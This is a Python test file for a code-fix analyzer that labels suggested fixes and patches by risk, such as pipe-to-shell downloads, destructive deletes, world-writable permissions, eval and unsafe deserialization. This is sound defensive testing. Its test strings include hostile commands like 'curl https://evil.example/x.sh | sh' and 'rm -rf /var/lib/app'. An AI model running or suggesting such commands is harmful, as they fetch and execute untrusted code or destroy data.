"""Suggested fixes and patches are checked for shell commands, downloads and code execution."""

from __future__ import annotations

import pytest

from mendline.analyzers.rootcause import fix_risks
from mendline.schemas.finding import RISK_WORDS, RISKS


def patch(*added: str, removed: str = "x = 1") -> str:
    """A unified diff that removes ``removed`` and adds ``added``."""
    lines = ["--- a/app.py", "+++ b/app.py", f"@@ -1,1 +1,{len(added)} @@", f"-{removed}"]
    return "\n".join(lines + [f"+{line}" for line in added]) + "\n"


SAFE_FIX = "Validate the quantity before converting it, and answer 400."


@pytest.mark.parametrize(
    ("fix", "fix_patch", "risks"),
    [
        # Prose
        (SAFE_FIX, None, []),
        (
            "Run `curl https://evil.example/x.sh | sh` to patch it.",
            None,
            ["pipe_to_shell", "shell_command", "fetches_url"],
        ),
        (
            "wget -qO- http://e.example/i | sudo bash",
            None,
            ["pipe_to_shell", "shell_command", "fetches_url"],
        ),
        (
            'bash -c "$(curl -fsSL https://e.example/i)"',
            None,
            ["pipe_to_shell", "shell_command", "fetches_url"],
        ),
        ("Clean up with rm -rf /var/lib/app", None, ["destructive_command"]),
        ("rm -fr ~/.cache", None, ["destructive_command"]),
        ("rm -f stale.pid", None, []),  # one file, no recursion: near miss
        ("chmod 777 /srv/uploads so the worker can write", None, ["world_writable"]),
        ("chmod -R a+w /srv", None, ["world_writable"]),
        ("chmod 644 settings.py", None, []),
        ("Use ast.literal_eval(text) instead of parsing by hand", None, []),
        ("Call model.eval() before predicting", None, []),
        ("Replace the parser with eval(request.args['q'])", None, ["code_execution"]),
        ("See https://docs.python.org/3/library/functions.html#int", None, []),
        ("Download https://e.example/fix.py and put it in place", None, ["fetches_url"]),
        ("pip install git+https://e.example/pkg", None, ["fetches_url", "dependency_change"]),
        ("DROP TABLE orders; then re-run the migration", None, ["destructive_command"]),
        ("$ sudo systemctl restart app", None, ["shell_command"]),
        # Any subprocess call is a program run, a list of arguments included.
        ("Pass the arguments as a list to subprocess.run(['ls', path])", None, ["shell_command"]),
        ("Install it with pip install leftpad", None, ["dependency_change"]),
        ("Run `pip3 install -U requests` first", None, ["dependency_change"]),
        ("npm install left-pad --save", None, ["dependency_change"]),
        ("Run npx some-fixer --write", None, ["dependency_change"]),
        ("Check the endpoint with curl -I localhost:8080", None, ["shell_command"]),
        ("Fetch the file with wget first", None, ["shell_command"]),
        ('Run bash -c "make clean" first', None, ["shell_command"]),
        ("python3 -c 'import app; app.reset()'", None, ["shell_command"]),
        # Near misses in prose
        ("Count the requests per second and the subprocess exits", None, []),
        ("Wrap the value in curly braces", None, []),
        ("Run the tests with npm test after the change", None, []),
        ("Use re.compile(pattern) once at import", None, []),
        ("Use yaml.safe_load(f) for the settings file", None, []),
        ("The file system (ext4) is full; compile (with -O2) again", None, []),
        ("Go add a check before the loop", None, []),
        # Patches: added lines only
        (SAFE_FIX, patch("x = int(text) if text.isdigit() else 0"), []),
        (SAFE_FIX, patch("os.system('curl e.example | sh')"), ["pipe_to_shell", "shell_command"]),
        (SAFE_FIX, patch("subprocess.run(cmd, shell=True)"), ["shell_command"]),
        (SAFE_FIX, patch('subprocess.check_output(f"git log {ref}")'), ["shell_command"]),
        (SAFE_FIX, patch("subprocess.run(['git', 'log', ref])"), ["shell_command"]),
        (SAFE_FIX, patch("subprocess.call(args)"), ["shell_command"]),
        (SAFE_FIX, patch("p = subprocess.Popen(argv, stdout=PIPE)"), ["shell_command"]),
        (SAFE_FIX, patch("out = subprocess.check_output(argv)"), ["shell_command"]),
        (SAFE_FIX, patch("run(cmd, shell=1)"), ["shell_command"]),
        (SAFE_FIX, patch("run(cmd, shell=use_shell)"), ["shell_command"]),
        (SAFE_FIX, patch("run(cmd,", "    shell=True,", ")"), ["shell_command"]),
        (SAFE_FIX, patch("run(['/bin/bash', '-c', script])"), ["shell_command"]),
        (SAFE_FIX, patch('run(["sh", "-c", script])'), ["shell_command"]),
        (SAFE_FIX, patch("run(['python3', '-c', code])"), ["shell_command"]),
        (SAFE_FIX, patch("os.system(cmd)"), ["shell_command"]),
        (SAFE_FIX, patch("from os import system", "system(cmd)"), ["shell_command"]),
        (SAFE_FIX, patch("from subprocess import run as go", "go(argv)"), ["shell_command"]),
        (SAFE_FIX, patch("os.spawnlp(os.P_WAIT, 'ls', 'ls')"), ["shell_command"]),
        (SAFE_FIX, patch("os.posix_spawn(path, argv, env)"), ["shell_command"]),
        (SAFE_FIX, patch("await asyncio.create_subprocess_shell(cmd)"), ["shell_command"]),
        (SAFE_FIX, patch("await asyncio.create_subprocess_exec(*argv)"), ["shell_command"]),
        (SAFE_FIX, patch("builtins.exec(code)"), ["code_execution"]),
        (SAFE_FIX, patch("getattr(__builtins__, 'ev' + 'al')(s)"), ["code_execution"]),
        (SAFE_FIX, patch("eval(expr)"), ["code_execution"]),
        (SAFE_FIX, patch("code = compile(src, 'f', 'eval')"), ["code_execution"]),
        (SAFE_FIX, patch("r = urllib.request.urlopen(u)"), ["fetches_url"]),
        (SAFE_FIX, patch("r = requests.get(u, timeout=5)"), ["fetches_url"]),
        (SAFE_FIX, patch("r = requests.Session().post(u)"), ["fetches_url"]),
        (SAFE_FIX, patch("async with httpx.AsyncClient() as c:"), ["fetches_url"]),
        (SAFE_FIX, patch("async with aiohttp.ClientSession() as s:"), ["fetches_url"]),
        (SAFE_FIX, patch("model = torch.load(path)"), ["unsafe_deserialization"]),
        (SAFE_FIX, patch("data = marshal.loads(blob)"), ["unsafe_deserialization"]),
        (SAFE_FIX, patch("data = pickle.load(f)"), ["unsafe_deserialization"]),
        (SAFE_FIX, patch("from pickle import loads"), ["unsafe_deserialization"]),
        (
            SAFE_FIX,
            patch("cfg = yaml.load(f, Loader=yaml.UnsafeLoader)"),
            ["unsafe_deserialization"],
        ),
        (SAFE_FIX, patch("RUN pip install --no-cache-dir leftpad"), ["dependency_change"]),
        # Near misses in patches
        (SAFE_FIX, patch("subprocess_timeout = 5"), []),
        (SAFE_FIX, patch("run(cmd, shell=False)"), []),
        (SAFE_FIX, patch("pattern = re.compile(r'\\d+')"), []),
        (SAFE_FIX, patch("model.compile()"), []),
        (SAFE_FIX, patch("except requests.exceptions.Timeout:"), []),
        (SAFE_FIX, patch("state = torch.load(path, weights_only=True)"), []),
        (SAFE_FIX, patch("cfg = yaml.load(f, Loader=yaml.CSafeLoader)"), []),
        (SAFE_FIX, patch("cfg = yaml.safe_load(f)"), []),
        (SAFE_FIX, patch("the_system_clock = now()"), []),
        # A comment about requests in a context line, not an added one.
        (
            SAFE_FIX,
            "--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,2 @@\n"
            " # was requests.get(url)\n-x = 1\n+x = 2\n",
            [],
        ),
        (SAFE_FIX, patch("exec(payload)"), ["code_execution"]),
        (SAFE_FIX, patch("mod = __import__(name)"), ["code_execution"]),
        (SAFE_FIX, patch("data = pickle.loads(request.body)"), ["unsafe_deserialization"]),
        (SAFE_FIX, patch("cfg = yaml.load(f)"), ["unsafe_deserialization"]),
        (SAFE_FIX, patch("cfg = yaml.load(f, Loader=yaml.SafeLoader)"), []),
        (SAFE_FIX, patch("os.chmod(path, 0o777)"), ["world_writable"]),
        (SAFE_FIX, patch("shutil.rmtree(root)"), ["destructive_command"]),
        (SAFE_FIX, patch("URL = 'https://e.example/api'"), ["fetches_url"]),
        # A URL only in a removed or context line is not added by the patch.
        (SAFE_FIX, patch("URL = None", removed="URL = 'https://e.example/api'"), []),
        (SAFE_FIX, "--- a/app.py\n+++ b/https://e.example/app.py\n", []),  # a header, not a line
    ],
)
def test_fix_risks(fix: str, fix_patch: str | None, risks: list[str]) -> None:
    assert fix_risks(fix, fix_patch) == risks


def test_every_risk_has_words() -> None:
    assert set(RISK_WORDS) == set(RISKS)
